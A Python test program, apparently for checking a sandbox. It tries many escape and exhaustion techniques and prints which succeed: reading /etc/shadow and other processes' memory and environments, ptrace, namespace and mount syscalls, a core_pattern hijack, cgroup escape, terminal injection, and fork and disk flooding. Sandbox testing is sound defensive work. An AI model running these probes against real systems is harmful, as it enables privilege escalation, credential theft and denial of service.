"""A hostile program. Tries to leave its sandbox in many ways, and prints as JSON which ones worked.

Runs inside the sandbox, with the standard library only. An attack that fails raises OSError.
"""

import ctypes
import errno
import json
import mmap
import os
import resource
import signal
import socket
import sys
from collections.abc import Callable
from pathlib import Path

_ATTACKS: dict[str, Callable[[], object]] = {}
_LIBC = ctypes.CDLL(None, use_errno=True)
_TARGETS = json.loads(os.environ["TARGETS"])
"""What the test prepared outside: paths, a port, an abstract socket, a process id."""


def _attack(function: Callable[[], object]) -> Callable[[], object]:
    _ATTACKS[function.__name__] = function
    return function


def _call(number: int, *arguments: object) -> int:
    result = _LIBC.syscall(number, *arguments)
    if result == -1:
        raise OSError(ctypes.get_errno(), "system call")
    return result


def _call_libc(name: str, *arguments: object) -> int:
    result = getattr(_LIBC, name)(*arguments)
    if result == -1:
        raise OSError(ctypes.get_errno(), name)
    return result


def _refused() -> None:
    raise OSError(errno.EPERM, "nothing to attack")


# --- the network ------------------------------------------------------------------------------


@_attack
def open_a_socket_of_another_family() -> object:
    opened: list[int] = []
    for family in range(2, 46):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
            try:
                socket.socket(family, kind).close()
                opened.append(family)
            except OSError:
                continue
    return opened or _refused()


@_attack
def connect_to_the_host() -> object:
    return socket.create_connection(("127.0.0.1", _TARGETS["port"]), timeout=2)


@_attack
def connect_to_every_listening_port() -> object:
    reached: list[str] = []
    for address, port in _TARGETS["listeners"]:
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        try:
            with socket.socket(family) as client:
                client.settimeout(2)
                client.connect((address, port))
            reached.append(f"{address} {port}")
        except OSError:
            continue
    return reached or _refused()


@_attack
def pass_a_descriptor_out() -> object:
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as client:
        return socket.send_fds(client, [b"x"], [0], 0, f"\0{_TARGETS['abstract']}")


@_attack
def connect_to_an_abstract_socket() -> object:
    with socket.socket(socket.AF_UNIX) as client:
        return client.connect(f"\0{_TARGETS['abstract']}")


@_attack
def connect_to_a_socket_file() -> object:
    with socket.socket(socket.AF_UNIX) as client:
        return client.connect(_TARGETS["socket"])


# --- files ------------------------------------------------------------------------------------


@_attack
def read_a_secret() -> object:
    return Path(_TARGETS["secret"]).read_text()


@_attack
def read_a_secret_through_root_of_pid_1() -> object:
    return Path("/proc/1/root", _TARGETS["secret"].lstrip("/")).read_text()


@_attack
def read_a_secret_through_a_link() -> object:
    link = Path("/tmp/link")
    link.symlink_to(_TARGETS["secret"])
    return link.read_text()


@_attack
def read_password_hashes() -> object:
    return Path("/etc/shadow").read_text()


@_attack
def list_home_directories() -> object:
    return [os.listdir(path) for path in ("/root/.ssh", "/home", "/etc")]


@_attack
def read_kernel_settings() -> object:
    return Path("/sys/kernel/security/lsm").read_text()


def _write_to(directory: str) -> Callable[[], object]:
    def write() -> object:
        return Path(directory, "new").write_text("x")

    write.__name__ = f"write_to_{directory.strip('/').replace('/', '_') or 'root'}"
    return write


for _directory in ("/", "/usr", "/usr/lib", "/var/task", "/opt/trace", "/dev", "/run", "/proc"):
    _attack(_write_to(_directory))


@_attack
def change_the_interpreter() -> object:
    return os.open(sys.executable, os.O_WRONLY)


@_attack
def change_the_bundle() -> object:
    return os.open("/var/task/attacks.py", os.O_WRONLY)


@_attack
def link_the_bundle_into_tmp() -> object:
    return os.link("/var/task/attacks.py", "/tmp/hard")


@_attack
def change_a_kernel_setting() -> object:
    return Path("/proc/sys/kernel/hostname").write_text("owned")


@_attack
def make_a_device() -> object:
    return os.mknod("/tmp/disk", 0o60600, os.makedev(8, 0))


@_attack
def open_by_handle() -> object:
    return _call({"x86_64": 304}.get(os.uname().machine, 265), -100, b"\0" * 64, 0)


# --- other processes --------------------------------------------------------------------------


@_attack
def see_other_processes() -> object:
    others = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    return [pid for pid in others if pid > 50] or _refused()


@_attack
def see_the_environment_of_pid_1() -> object:
    return Path("/proc/1/environ").read_bytes() or _refused()


@_attack
def find_the_environment_of_the_launcher() -> object:
    canary, found = _TARGETS["reversed_canary"][::-1].encode(), list[str]()
    for pid in ("self", *(name for name in os.listdir("/proc") if name.isdigit())):
        try:
            found += [pid] if canary in Path(f"/proc/{pid}/environ").read_bytes() else []
        except OSError:
            continue
    return found or _refused()


@_attack
def write_into_the_memory_of_the_parent() -> object:
    return os.open(f"/proc/{os.getppid()}/mem", os.O_RDWR)


@_attack
def stop_the_parent() -> object:
    return os.kill(os.getppid(), signal.SIGSTOP) if os.getppid() > 50 else _refused()


@_attack
def see_host_paths_in_the_command_of_pid_1() -> object:
    return _TARGETS["directory"] in Path("/proc/1/cmdline").read_text() or _refused()


@_attack
def use_inherited_descriptors() -> object:
    own = os.open("/proc/self/fd", os.O_RDONLY)
    found = {int(name) for name in os.listdir(own)} - {0, 1, 2, own}
    open_ones = [number for number in found if os.path.exists(f"/proc/self/fd/{number}")]
    return open_ones or _refused()


@_attack
def signal_a_process_of_the_host() -> object:
    return os.kill(_TARGETS["pid"], 0)


@_attack
def trace_pid_1() -> object:
    return _call_libc("ptrace", 16, 1, 0, 0)


@_attack
def read_the_memory_of_pid_1() -> object:
    return os.open("/proc/1/mem", os.O_RDONLY)


@_attack
def take_a_descriptor_of_pid_1() -> object:
    return _call(438, _call(434, 1, 0), 0, 0)


@_attack
def find_the_token_of_another_function() -> object:
    token = _TARGETS["token"].encode()
    found: list[str] = []
    others = [pid for pid in os.listdir("/proc") if pid.isdigit() and int(pid) != os.getpid()]
    for path in (f"/proc/{pid}/{name}" for pid in others for name in ("environ", "cmdline")):
        try:
            found += [path] if token in Path(path).read_bytes() else []
        except OSError:
            continue
    return found or _refused()


@_attack
def find_a_message_queue_of_the_host() -> object:
    return _call_libc("msgget", _TARGETS["ipc_key"], 0)


@_attack
def find_shared_memory_of_the_host() -> object:
    return _call_libc("shmget", _TARGETS["ipc_key"], 0, 0)


@_attack
def see_the_name_of_the_host() -> object:
    return os.uname().nodename == _TARGETS["host"] or _refused()


# --- privileges and the kernel ----------------------------------------------------------------


@_attack
def become_root() -> object:
    return os.setuid(0)


@_attack
def get_a_user_namespace() -> object:
    return _call_libc("unshare", 0x10000000)


@_attack
def get_a_namespace_by_clone() -> object:
    number = {"x86_64": 56}.get(os.uname().machine, 220)
    pid = _call(number, 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    return os.waitpid(pid, 0)


@_attack
def get_a_namespace_by_clone3() -> object:
    arguments = (0x10000000).to_bytes(8, "little") + b"\0" * 24 + bytes([17]) + b"\0" * 55
    return _call(435, arguments, len(arguments))


@_attack
def mount_a_file_system() -> object:
    return _call_libc("mount", b"none", b"/tmp", b"tmpfs", 0, b"")


@_attack
def open_a_file_system_by_the_new_calls() -> object:
    return _call(430, b"tmpfs", 0)


@_attack
def change_the_root() -> object:
    return os.chroot("/tmp")


@_attack
def add_a_key() -> object:
    number = {"x86_64": 248}.get(os.uname().machine, 217)
    return _call(number, b"user", b"trace", b"x", 1, -3)


@_attack
def load_a_bpf_program() -> object:
    return _call({"x86_64": 321}.get(os.uname().machine, 280), 0, b"\0" * 128, 128)


@_attack
def start_io_uring() -> object:
    return _call(425, 8, b"\0" * 120)


@_attack
def count_events_of_the_processor() -> object:
    return _call({"x86_64": 298}.get(os.uname().machine, 241), b"\0" * 128, 0, -1, -1, 0)


@_attack
def handle_page_faults() -> object:
    return _call({"x86_64": 323}.get(os.uname().machine, 282), 0)


@_attack
def make_a_file_in_memory() -> object:
    return os.memfd_create("hidden")


@_attack
def change_the_clock() -> object:
    import time

    return time.clock_settime(time.CLOCK_REALTIME, 0)


@_attack
def take_real_time_priority() -> object:
    return os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50))


@_attack
def raise_a_limit() -> object:
    return resource.setrlimit(resource.RLIMIT_NPROC, (1_000_000, 1_000_000))


@_attack
def be_the_last_to_be_ended_for_its_memory() -> object:
    return Path("/proc/self/oom_score_adj").write_text("-1000")


@_attack
def leave_the_control_group() -> object:
    moved = [path for path in Path("/sys/fs/cgroup").rglob("cgroup.procs") if path.write_text("0")]
    return moved or _refused()


@_attack
def name_a_program_that_the_kernel_starts() -> object:
    return Path("/proc/sys/kernel/core_pattern").write_text("|/tmp/owned")


@_attack
def type_into_the_terminal() -> object:
    import fcntl

    return fcntl.ioctl(0, 0x5412, b"x")


# --- resources --------------------------------------------------------------------------------


def _fill(directory: str, most: int) -> int:
    written = 0
    for number in range(1000):
        with open(f"{directory}/{number}", "wb", buffering=0) as file:
            while written <= most:
                written += file.write(b"\0" * (1 << 20))
        if written > most:
            break
    return written


@_attack
def fill_the_temporary_directory() -> object:
    try:
        return _fill("/tmp", _TARGETS["temporary_bytes"])
    finally:
        for path in Path("/tmp").glob("[0-9]*"):
            path.unlink()


@_attack
def fill_shared_memory() -> object:
    try:
        return _fill("/dev/shm", _TARGETS["temporary_bytes"])
    finally:
        for path in Path("/dev/shm").glob("[0-9]*"):
            path.unlink()


@_attack
def use_all_inodes() -> object:
    if not _TARGETS["inodes_are_limited"]:
        _refused()
    Path("/tmp/many").mkdir()
    for number in range(_TARGETS["temporary_files"] + 10):
        Path(f"/tmp/many/{number}").touch()
    return number


@_attack
def allocate_memory() -> object:
    try:
        return len(mmap.mmap(-1, _TARGETS["memory_bytes"] + (64 << 20)))
    except (MemoryError, ValueError) as error:
        raise OSError(errno.ENOMEM, str(error)) from error


@_attack
def keep_memory_in_no_process() -> object:
    return _call_libc("shmget", 0, 1 << 20, 0o1600)


@_attack
def keep_messages_in_the_kernel() -> object:
    return _call_libc("msgget", 0, 0o1600)


@_attack
def keep_messages_in_a_posix_queue() -> object:
    return _call_libc("mq_open", b"/hidden", os.O_CREAT | os.O_RDWR, 0o600, None)


@_attack
def keep_semaphores_in_the_kernel() -> object:
    return _call_libc("semget", 0, 10, 0o1600)


@_attack
def write_a_large_file() -> object:
    path = Path("/tmp/large")
    try:
        with path.open("wb", buffering=0) as file:
            while file.tell() <= _TARGETS["file_bytes"]:
                file.write(b"\0" * (1 << 20))
            return file.tell()
    finally:
        path.unlink(missing_ok=True)


@_attack
def open_too_many_files() -> object:
    opened: list[int] = []
    try:
        for _ in range(_TARGETS["open_files"] + 1):
            opened.append(os.open("/dev/null", os.O_RDONLY))
        return len(opened)
    finally:
        for number in opened:
            os.close(number)


@_attack
def start_too_many_processes() -> object:
    children: list[int] = []
    try:
        for _ in range(_TARGETS["processes"] + 1):
            pid = os.fork()
            if pid == 0:
                signal.pause()
            children.append(pid)
        return len(children)
    finally:
        for pid in children:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)


def main() -> None:
    """Run all attacks, or those that are named, and print the ones that worked."""
    succeeded: dict[str, str] = {}
    for name in sys.argv[1:] or _ATTACKS:
        try:
            succeeded[name] = repr(_ATTACKS[name]())[:200]
        except (OSError, ValueError):  # setrlimit raises ValueError
            continue
    print(json.dumps({"tried": len(sys.argv[1:] or _ATTACKS), "succeeded": succeeded}))


main()
